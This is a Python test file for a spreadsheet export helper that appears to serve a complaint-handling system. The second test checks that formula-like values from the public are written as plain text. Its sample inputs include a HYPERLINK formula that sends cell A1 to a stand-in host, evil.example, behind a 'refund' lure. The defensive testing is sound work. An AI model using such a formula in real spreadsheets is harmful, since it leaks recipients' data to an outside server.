"""The Excel export helper: what a user opening the file sees."""
from io import BytesIO

from openpyxl import load_workbook

from reports.excel import Sheet, xlsx_response


def test_an_export_opens_with_its_sheets_headers_and_rows():
    response = xlsx_response(filename="每周通报 2026-W47.xlsx", sheets=[
        Sheet(title="超期工单", headers=["工单编号", "承办单位", "超期工作日"],
              rows=[["2026112300001", "白沙市场监管所", 3], ["2026112300002", "潮连所", 1]]),
        Sheet(title="按单位", headers=["单位", "件数"], rows=[]),
    ])
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert "UTF-8''%E6%AF%8F" in response["Content-Disposition"]
    book = load_workbook(BytesIO(response.content))
    assert book.sheetnames == ["超期工单", "按单位"]
    rows = list(book["超期工单"].values)
    assert rows == [("工单编号", "承办单位", "超期工作日"), ("2026112300001", "白沙市场监管所", 3),
                    ("2026112300002", "潮连所", 1)]
    assert book["超期工单"]["A1"].font.bold
    assert book["超期工单"].column_dimensions["B"].width >= 16  # seven CJK characters fit


def test_a_formula_like_value_from_the_public_is_written_as_text():
    import zipfile

    hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"点击退款")', "+86-750-1234567", "-2+3", "@SUM(1,2)"]
    response = xlsx_response(filename="热点被投诉人.xlsx", sheets=[
        Sheet(title="被投诉人", headers=["被投诉人", "件数"], rows=[[name, 3] for name in hostile] + [["-", -1]])])
    sheet_xml = zipfile.ZipFile(BytesIO(response.content)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula anywhere in the file
    table = load_workbook(BytesIO(response.content))["被投诉人"]
    assert [row[0].value for row in table.iter_rows(min_row=2)] == [*hostile, "-"]
    assert all(row[0].data_type == "s" and row[0].quotePrefix for row in table.iter_rows(min_row=2))
    assert table["B6"].value == -1 and table["B6"].data_type == "n"  # numbers stay numbers
